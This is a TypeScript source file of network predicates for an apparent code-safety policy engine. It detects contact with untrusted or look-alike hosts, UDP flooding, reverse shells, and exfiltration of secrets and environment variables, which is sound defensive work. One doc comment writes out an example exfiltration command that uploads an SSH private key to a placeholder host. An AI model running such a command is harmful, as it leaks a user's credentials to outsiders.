/** Predicates about the network: `contacts_untrusted_host`, `exfiltrates`, `opens_reverse_shell` and others. */
import type { PredicateParameter } from "@helve/core";
import type { NetworkEffect, Origin } from "@helve/effects";
import { lookAlike } from "@helve/effects";
import type { PreparedPolicy } from "../prepared-policy.ts";
import { hostOf, hostTest, isLoopback } from "../text/hosts.ts";
import {
  certainHit,
  type EffectPredicate,
  type Hit,
  strongestHit,
  unknownHit,
  unknownPath,
} from "./effect-predicate.ts";
import { codePhrases } from "./phrases.ts";
import { contentInListHit } from "./sensitive-paths.ts";

/** `contacts_untrusted_host`: whether code fetches from or sends to a host that is not in the policy's `trustedHosts`. */
export const contactsUntrustedHost: EffectPredicate = {
  names: ["contacts_untrusted_host", "request_untrusted_source"],
  description: "Whether the code fetches from a host that the policy does not trust, or sends something there.",
  phrase: codePhrases({
    does: "contacts an untrusted host",
    doesNot: "contact an untrusted host",
    zh: "访问不可信的主机",
  }),
  operand: "fetch",
  falseReason: "nothing in the code contacts a host that is not trusted",
  createTest:
    ({ policy }) =>
    (effect) =>
      effect.kind === "network" &&
      effect.direction !== "listen" &&
      !isConfiguredOrLookup(effect) &&
      untrustedHostHit(effect, policy),
};

const hostParameter: PredicateParameter = { name: "host", schema: { type: "string" }, required: false, rest: true };

/** `sends_data_to`: whether code sends data to one of the operands, as in `sends_data_to("x.org")`; without operands, to any host. */
export const sendsDataTo: EffectPredicate = {
  names: ["sends_data_to"],
  description: "Whether the code sends data to one of the hosts; without hosts, to any host.",
  phrase: [
    {
      when: [],
      en: "it sends data to another machine",
      zh: "它会向其他机器发送数据",
      not: { en: "it does not send data to another machine", zh: "它不会向其他机器发送数据" },
    },
    // A value of the call is what is inspected, and not a host.
    {
      when: "literals",
      en: "it sends data to {0|}",
      zh: "它会向{0|}发送数据",
      not: { en: "it does not send data to {0|}", zh: "它不会向{0|}发送数据" },
    },
  ],
  parameter: hostParameter,
  operand: "send",
  falseReason: "nothing in the code sends data to such a host",
  createTest({ operands }) {
    const tests = operands.map(hostTest);
    return (effect) => {
      if (effect.kind !== "network" || effect.direction !== "out") return false;
      if (operands.length === 0) return certainHit;
      const host = effect.host === null ? null : hostOf(effect.host);
      if (host === null) return unknownHit;
      return tests.some((matches) => matches({ ...host, port: String(effect.port ?? "") })) && certainHit;
    };
  },
};

/** `sends_datagrams`: whether code sends UDP packets, as floods and amplification attacks do. */
export const sendsDatagrams: EffectPredicate = {
  names: ["sends_datagrams"],
  description: "Whether the code sends packets over UDP itself, as floods and amplification attacks do.",
  phrase: codePhrases({ does: "sends packets over UDP", doesNot: "send packets over UDP", zh: "发送 UDP 数据包" }),
  falseReason: "nothing in the code sends packets over UDP",
  createTest: () => (effect) => {
    return effect.kind === "network" && effect.direction === "out" && effect.protocol === "udp" && certainHit;
  },
};

/** `exfiltrates`: whether code sends the content of a sensitive file, as in `curl -T ~/.ssh/id_rsa https://x.io`. */
export const exfiltrates: EffectPredicate = {
  names: ["exfiltrates"],
  description:
    "Whether the code sends the content of a file of the system or of a file with credentials over the network.",
  phrase: codePhrases({
    does: "sends credentials or files of the system over the network",
    doesNot: "send credentials or files of the system over the network",
    zh: "将凭据或系统文件发送到网络上",
  }),
  operand: "sendFile",
  falseReason: "nothing in the code sends a sensitive file over the network",
  createTest:
    ({ policy }) =>
    (effect) => {
      if (effect.kind !== "network" || effect.direction !== "out") return false;
      const isTrusted = effect.configured === true || (effect.host !== null && policy.trusts(effect.host));
      const destination = { isTrusted, leaves: effect.configured !== true && !isLocal(effect.host) };
      return strongestHit(effect.from.map((origin) => sensitiveOriginHit(origin, destination, policy)));
    },
};

/** Returns a hit if sent data is sensitive, such as a system file or all environment variables. */
function sensitiveOriginHit(
  origin: Origin,
  { isTrusted, leaves }: { readonly isTrusted: boolean; readonly leaves: boolean },
  { reading, writing }: PreparedPolicy,
): Hit | false {
  if (origin.kind === "environment" && origin.all === true) return certainHit;
  if (origin.kind === "environment" || origin.kind === "secret") return isTrusted ? false : certainHit;
  if (origin.kind === "unknown") return isTrusted ? false : unknownHit;
  if (origin.kind === "file" && origin.target === null) return leaves && unknownPath;
  if (origin.kind !== "file") return false;
  return contentInListHit(reading, origin.target, true) || contentInListHit(writing, origin.target, true);
}

/** Whether a host is this machine. */
export function isLocal(host: string | null): boolean {
  const parsed = host === null ? null : hostOf(host);
  return parsed !== null && isLoopback(parsed);
}

/** `opens_reverse_shell`: whether code runs commands that come from the other end of a network connection. */
export const opensReverseShell: EffectPredicate = {
  names: ["opens_reverse_shell"],
  description: "Whether the code lets the other end of a network connection run commands.",
  phrase: codePhrases({
    does: "lets the other end of a network connection run commands",
    doesNot: "let the other end of a network connection run commands",
    zh: "让网络连接的另一端运行命令",
  }),
  falseReason: "nothing in the code lets others run commands",
  createTest({ effects }) {
    const opensConnection = effects.some((effect) => effect.kind === "network" && !isFetch(effect));
    return (effect) =>
      opensConnection && effect.kind === "execute" && effect.from.some(({ kind }) => kind === "network") && certainHit;
  },
};

/** Whether an effect is a request with a response, as `curl https://x.org`, and not an open connection. */
function isFetch({ direction, protocol = "" }: NetworkEffect): boolean {
  return direction === "in" && protocol !== "tcp" && protocol !== "udp";
}

/** Whether a host was configured by a person (a git remote), or is only looked up (DNS, ping). */
function isConfiguredOrLookup({ protocol, from, configured }: NetworkEffect): boolean {
  if (configured === true) return true;
  return (protocol === "dns" || protocol === "icmp") && from.every(({ kind }) => kind === "literal");
}

/** A hit if a host is not in `trustedHosts`, or is unknown. */
export function untrustedHostHit({ host }: Pick<NetworkEffect, "host">, { trusts }: PreparedPolicy): Hit | false {
  if (host === null) return unknownHit;
  if (trusts(host)) return false;
  return { truth: true, because: distrustReason(host) };
}

/** Why a host is not trusted, with the host that it looks like, or the address that its number means. */
function distrustReason(host: string): string {
  const alike = lookAlike(host);
  if (alike !== undefined)
    return `, which is not ${alike.name}: its letter ${alike.letter} only looks like "${alike.like}"`;
  const name = hostOf(host)?.name ?? host;
  return /^[\d.]+$/.test(name) && name !== host ? `, which is ${name} and is not trusted` : ", which is not trusted";
}
